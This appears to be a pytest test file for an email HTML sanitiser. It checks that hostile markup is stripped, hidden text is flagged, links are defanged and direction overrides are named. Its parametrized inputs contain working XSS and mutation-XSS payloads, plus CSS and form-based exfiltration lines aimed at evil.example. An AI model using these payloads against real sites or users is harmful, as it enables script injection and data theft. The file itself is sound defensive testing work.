"""Hostile HTML as the formatted view shows it. A real browser is asked in tests/browser."""

import re

import pytest

from mailguard.app.safe_html import CONTENT_SECURITY_POLICY, STYLE, safe_document


def body_of(source: str) -> str:
    document = safe_document(source).html
    assert document.count(f"<style>{STYLE}</style>") == 1
    return document.partition("<body>")[2].removesuffix("</body></html>")


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script><style>*{}</style></svg>",
        "<svg><foreignObject><img src=//evil.example></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<form action='//evil.example'><input name=p><button formaction='//evil.example'>go</button></form>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href='//evil.example/'>",
        "<link rel=stylesheet href='//evil.example/x.css'>",
        "<style>body{background:url(//evil.example)} input[value^=a]{background:url(//evil.example/a)}</style>",
        "<div style='background:url(//evil.example);position:fixed;inset:0'>x</div>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='//evil.example'></object><embed src='//evil.example'>",
        "<video poster='//evil.example'><source src='//evil.example'></video>",
        "<table background='//evil.example'><td background='//evil.example'>x</table>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><img src=x onerror=alert(1)></template>",
        "<!--><img src=x onerror=alert(1)>--><p>after",
        "<p id=x onclick=alert(1) class=y name=z>x",
    ],
)
def test_nothing_that_acts_loads_or_styles_is_left(source: str):
    left = body_of(source)
    tags = re.findall(r"<([^>]*)>", left)
    assert not any(
        re.search(r"(?i)\b(on\w+|style|class|href|src|action|background|id|name|title)\s*=", tag)
        for tag in tags
    )
    names = {tag.split()[0].strip("/") for tag in tags if tag.strip("/")}
    assert not names & {
        "script",
        "style",
        "img",
        "svg",
        "form",
        "input",
        "button",
        "meta",
        "base",
        "link",
        "iframe",
    }


def test_words_that_a_reader_could_not_see_are_marked_as_hidden():
    left = body_of("<p>seen</p><p style='display:none'>not seen</p><p style='color:#fff'>white</p>")
    assert left == ('<p>seen</p><p data-mailguard="hidden">not seen</p><p data-mailguard="hidden">white</p>')


def test_a_sender_cannot_mark_visible_words_as_hidden():
    assert body_of("<p data-mailguard='hidden'>seen</p>") == "<p>seen</p>"


def test_a_picture_is_its_description_and_a_link_says_where_it_leads():
    left = body_of('<p><img alt="my cat" src="cid:1"> <a href="https://evil.example/x">look</a></p>')
    assert left == "<p> [picture: my cat]  <a>look</a> [link to hxxps://evil[.]example/x] </p>"


def test_a_direction_override_is_named():
    assert body_of("<p>photo\u202egpj.exe</p>") == "<p>photo<mark>[right-to-left override]</mark>gpj.exe</p>"


def test_what_is_too_tangled_says_so_instead_of_being_shown():
    document = safe_document("<div>" * 50_000 + "x")
    assert not document.is_shown
    assert "too tangled" in document.html


def test_the_documents_own_policy_sandboxes_it_and_allows_nothing_but_its_style():
    assert CONTENT_SECURITY_POLICY.endswith("; sandbox")
    assert CONTENT_SECURITY_POLICY.startswith("default-src 'none'; style-src 'sha256-")


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("<form><textarea>meet me <b>tonight</b></textarea></form>", "meet me &lt;b&gt;tonight&lt;/b&gt;"),
        ("<select><option>red<option>by the pond</select>", "red by the pond"),
        ("<svg><text>come</text><text>alone</text><script>x()</script></svg>", "[picture: come alone]"),
        ("<math><mtext>after school</mtext></math>", "after school"),
        ("<noscript>tell nobody</noscript>", "tell nobody"),
        ("<object>look at this</object>", "[embedded content: look at this]"),
        (
            "<select style='display:none'><option>a secret</select>",
            "[hidden from a reader: a secret]",
        ),
    ],
)
def test_words_of_fields_pictures_and_formulas_are_shown_as_in_the_text_view(source: str, shown: str):
    left = body_of(f"<p>before</p>{source}<p>after</p>")
    assert shown in " ".join(left.split())
    assert "x()" not in left
    assert "after" in left
